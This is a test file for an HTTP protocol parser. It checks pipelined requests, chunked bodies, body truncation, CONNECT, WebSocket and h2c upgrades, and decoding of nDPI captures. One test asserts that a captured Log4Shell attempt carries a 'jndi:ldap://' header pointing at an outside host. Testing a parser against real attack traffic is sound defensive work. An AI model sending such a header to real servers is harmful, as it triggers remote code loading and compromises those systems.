import { once } from 'node:events';
import nodeHttp from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import type { HttpRequestEvent, HttpResponseEvent } from '#sidecar/events.ts';
import { http } from '#sidecar/protocols/http.ts';
import {
  ascii,
  concat,
  contractCheck,
  detectFlow,
  everySplitAgrees,
  feed,
  hex,
  ndpiFlows,
  type Segment,
} from '#test/fixtures/protocols/protocol-harness.ts';
import { startRecorder } from './loopback-recorder.ts';
import { itRejectsForeignBytes, mutatedFlowsParse } from './ndpi-flow-checks.ts';

const kinds = (events: unknown[]): string[] => events.map((e) => (e as { kind: string }).kind);
const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');

/** Either event kind, for tables of mixed requests and responses. */
type AnyHttp = Omit<HttpRequestEvent, 'kind'> & Omit<HttpResponseEvent, 'kind'> & { kind: string };

describe('http detect', () => {
  it('matches a minimal and a realistic request line, and a status line', () => {
    expect(http.detect(ascii('GET / HTTP/1.1\r\n'), 'to-server')).toBe('match');
    expect(http.detect(ascii('GET / HTTP/1.0\n'), 'to-server')).toBe('match');
    expect(http.detect(ascii('PROPFIND /dav/ HTTP/1.1\r\nHost: a\r\nDepth: 1\r\n\r\n'), 'to-server')).toBe(
      'match',
    );
    expect(http.detect(ascii('HTTP/1.1 204 No Content\r\n'), 'to-client')).toBe('match');
    expect(http.detect(ascii('HTTP/1.1 200 \r\n'), 'to-client')).toBe('match'); // §4: empty reason
  });

  it('needs more on prefixes that could still become a request or status line', () => {
    for (const prefix of ['G', 'GET', 'GET ', 'GET /index', 'GET /index HTTP/1', 'GET / HTTP/1.1\r']) {
      expect(http.detect(ascii(prefix), 'to-server'), prefix).toBe('need-more');
    }
    expect(http.detect(ascii('HTTP/1.1 2'), 'to-client')).toBe('need-more');
  });

  it('rejects look-alikes: Redis inline GET, memcached get, lowercase methods, HTTP/2 preface, RTSP', () => {
    for (const line of [
      'GET mykey\r\n',
      'get k\r\n',
      'get / HTTP/1.1\r\n',
      'PRI * HTTP/2.0\r\n',
      'OPTIONS * RTSP/1.0\r\n',
    ]) {
      expect(http.detect(ascii(line), 'to-server'), line).toBe('no-match');
    }
    expect(http.detect(ascii('HTTP/2 200\r\n'), 'to-client')).toBe('no-match');
    expect(http.detect(ascii('RTSP/1.0 200 OK\r\n'), 'to-client')).toBe('no-match');
  });

  itRejectsForeignBytes(http, ['http', 'http-connect', 'log4j']);
});

describe('http parser', () => {
  // RFC 9112: a pipelined GET, a POST with Content-Length (§6.2), a PUT with chunked coding (§7.1).
  const pipelined: Segment[] = [
    [
      'to-server',
      ascii(
        'GET /api/v1/users/42?expand=1 HTTP/1.1\r\nHost: shop\r\nUser-Agent: curl/8.5.0\r\n\r\n' +
          'POST /login HTTP/1.1\r\nHost: shop\r\nContent-Length: 11\r\n\r\nuser=alice\n' +
          'PUT /files/a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4;ext=1\r\nWiki\r\n5\r\npedia\r\n0\r\nX-Trailer: 1\r\n\r\n',
      ),
    ],
    [
      'to-client',
      ascii(
        'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' +
          'HTTP/1.1 302 Found\r\nLocation: /\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n' +
          'HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n',
      ),
    ],
  ];

  it('parses pipelined requests and responses with their bodies', () => {
    const events = feed(http, pipelined);
    expect(kinds(events)).toEqual([
      'http-request',
      'http-request',
      'http-request',
      'http-response',
      'http-response',
      'http-response',
    ]);
    const [get, post, put, ok, found, created] = events as AnyHttp[];
    expect(get).toMatchObject({
      method: 'GET',
      target: '/api/v1/users/42?expand=1',
      path: '/api/v1/users/42',
    });
    expect(get?.query).toBe('expand=1');
    expect(get?.headers).toContainEqual(['user-agent', 'curl/8.5.0']);
    expect(text(post?.body ?? new Uint8Array())).toBe('user=alice\n');
    expect(text(put?.body ?? new Uint8Array())).toBe('Wikipedia');
    expect([ok?.status, found?.status, created?.status]).toEqual([200, 302, 201]);
    expect(text(found?.body ?? new Uint8Array())).toBe('abc');
  });

  it('gives the same events for every split point', () => {
    expect(everySplitAgrees(http, pipelined).mismatch).toBeUndefined();
  });

  it('returns every request of a chunk as an event (ADR 29), and the next chunk is still understood', () => {
    const parser = http.createParser();
    const many = parser.parse(
      ascii('POST /p HTTP/1.1\r\nContent-Length: 4\r\n\r\nGET '.repeat(300)),
      'to-server',
      1,
    );
    expect(many).toHaveLength(300);
    expect(parser.parse(ascii('GET /next HTTP/1.1\r\n\r\n'), 'to-server', 2)).toMatchObject([
      { path: '/next' },
    ]);
  });

  it('knows HEAD, 204 and 304 responses have no body (RFC 9112 §6.3)', () => {
    const events = feed(http, [
      ['to-server', ascii('HEAD / HTTP/1.1\r\n\r\nGET /a HTTP/1.1\r\n\r\n')],
      ['to-client', ascii('HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\nHTTP/1.1 304 Not Modified\r\n\r\n')],
    ]);
    expect(events.slice(2)).toMatchObject([{ status: 200, body: new Uint8Array() }, { status: 304 }]);
  });

  it('bounds request bodies at 64 KiB and keeps counting to the next message', () => {
    const body = 'a'.repeat(70000);
    const events = feed(http, [
      [
        'to-server',
        ascii(`POST /u HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}GET /next HTTP/1.1\r\n\r\n`),
      ],
    ]) as HttpRequestEvent[];
    expect(events.map((e) => [e.path, e.body.length, e.bodyTruncated])).toEqual([
      ['/u', 65536, true],
      ['/next', 0, false],
    ]);
  });

  it('keeps a request body of 60,000 octets whole and a response body to 8 KiB', () => {
    const body = 'b'.repeat(60000);
    const events = feed(http, [
      ['to-server', ascii(`POST /u HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`)],
      ['to-client', ascii(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\n\r\n${body}`)],
    ]) as (HttpRequestEvent | HttpResponseEvent)[];
    expect(events.map((e) => [e.kind, e.body.length, e.bodyTruncated])).toEqual([
      ['http-request', 60000, false],
      ['http-response', 8192, true],
    ]);
  });

  it('reads the TLS hellos inside a CONNECT tunnel (nDPI http_connect.pcap: a proxied TLS session)', () => {
    const flow = ndpiFlows('http-connect').find((f) => detectFlow(http, f.segments));
    const events = feed(http, flow?.segments ?? []);
    expect(events.slice(0, 2)).toMatchObject([
      { kind: 'http-request', method: 'CONNECT', target: 'apache.org:443' },
      { kind: 'http-response', status: 200, version: '1.0' },
    ]);
    expect(events.find((e) => (e as { kind: string }).kind === 'tls-client-hello')).toMatchObject({
      sni: 'apache.org',
      alpn: ['h2', 'http/1.1'],
    });
    expect(kinds(events).filter((k) => k.startsWith('http-'))).toEqual(['http-request', 'http-response']);
  });

  it('reads WebSocket frames after a 101 to a WebSocket upgrade, and no HTTP after it (http-websocket.test.ts)', () => {
    const events = feed(http, [
      ['to-server', ascii('GET /ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n')],
      ['to-client', ascii('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello')],
      ['to-server', ascii('GET /not-http HTTP/1.1\r\n\r\n')],
    ]);
    expect(kinds(events)).toEqual(['http-request', 'http-response', 'websocket-message']);
  });

  it('switches to HTTP/2 after a 101 to Upgrade: h2c (RFC 7540 §3.2)', () => {
    const frame = (type: number, flags: number, stream: number, payload: Uint8Array): Uint8Array =>
      concat(
        hex(`${payload.length.toString(16).padStart(6, '0')} 0${type} 0${flags} 0000000${stream}`),
        payload,
      );
    const events = feed(http, [
      [
        'to-server',
        ascii(
          'GET /h2 HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n',
        ),
      ],
      [
        'to-client',
        concat(
          ascii('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n'),
          frame(4, 0, 0, new Uint8Array()),
        ),
      ],
      ['to-client', frame(1, 5, 1, hex('88'))], // HEADERS on stream 1: :status 200 (static index 8)
      [
        'to-server',
        concat(
          ascii('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
          frame(1, 5, 3, hex('8286 8441 0f77 7777 2e65 7861 6d70 6c65 2e63 6f6d')),
        ),
      ],
    ]);
    expect(events).toMatchObject([
      { kind: 'http-request', version: '1.1', path: '/h2' },
      { kind: 'http-response', version: '1.1', status: 101 },
      { kind: 'http-response', version: '2', status: 200, streamId: 1 },
      { kind: 'http-request', version: '2', method: 'GET', streamId: 3 },
    ]);
  });

  it('resynchronises on the next request line after a gap', () => {
    const parser = http.createParser();
    parser.parse(ascii('POST /a HTTP/1.1\r\nContent-Length: 100\r\n\r\nxx'), 'to-server', 1);
    parser.gap('to-server');
    const events = parser.parse(
      ascii('lost tail of the body\r\nGET /after HTTP/1.1\r\nHost: b\r\n\r\n'),
      'to-server',
      2,
    );
    expect(events).toMatchObject([{ kind: 'http-request', path: '/after' }]);
  });

  it('stops a direction on conflicting Content-Length values (RFC 9112 §6.3)', () => {
    const events = feed(http, [
      ['to-server', ascii('POST / HTTP/1.1\r\nContent-Length: 5, 6\r\n\r\nhelloGET / HTTP/1.1\r\n\r\n')],
    ]);
    expect(events).toEqual([]);
  });

  it('decodes the nDPI captures: curl to google.com and a Log4Shell attempt in a header', () => {
    const [curl] = ndpiFlows('http');
    expect(curl && detectFlow(http, curl.segments)).toBe(true);
    expect(feed(http, curl?.segments ?? [])).toMatchObject([
      { kind: 'http-request', method: 'GET', headers: expect.arrayContaining([['host', 'google.com']]) },
      { kind: 'http-response', status: 301 },
    ]);
    const [exploit] = ndpiFlows('log4j');
    const request = feed(http, exploit?.segments ?? [])[0] as HttpRequestEvent;
    expect(request.headers).toContainEqual(['user-agent', 'jndi:ldap://172.16.238.11:1389/a']);
    expect(text(request.body)).toContain('uname=');
  });

  it("never throws on nDPI's real flows with octets overwritten, split and with gaps", () => {
    expect(mutatedFlowsParse(http, 3, 0x7e10)).toBeGreaterThan(300);
  });

  it('passes the local contract check (random bytes never match, never throw)', () => {
    expect(contractCheck(http, pipelined[0] as Segment).randomMatches).toBe(0);
  });
});

describe('http on real traffic from node:http on loopback', () => {
  it('parses a keep-alive exchange with a chunked response', async () => {
    const server = nodeHttp.createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.write('part one;');
        res.end('part two');
      });
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const recorder = await startRecorder((server.address() as AddressInfo).port);
    const agent = new nodeHttp.Agent({ keepAlive: true, maxSockets: 1 });
    for (const path of ['/items?id=7', '/items/8']) {
      const req = nodeHttp.request({ port: recorder.port, host: '127.0.0.1', path, method: 'POST', agent });
      req.end('{"q":1}');
      const [res] = (await once(req, 'response')) as [nodeHttp.IncomingMessage];
      res.resume();
      await once(res, 'end');
    }
    agent.destroy();
    await recorder.close();
    server.close();
    const segments = recorder.chunks.map((c): Segment => [c.direction, c.bytes]);
    expect(detectFlow(http, segments)).toBe(true);
    const events = feed(http, segments) as AnyHttp[];
    expect(events.map((e) => e.path ?? e.status)).toEqual(['/items', 200, '/items/8', 200]);
    expect(text(events[1]?.body ?? new Uint8Array())).toBe('part one;part two');
  });
});
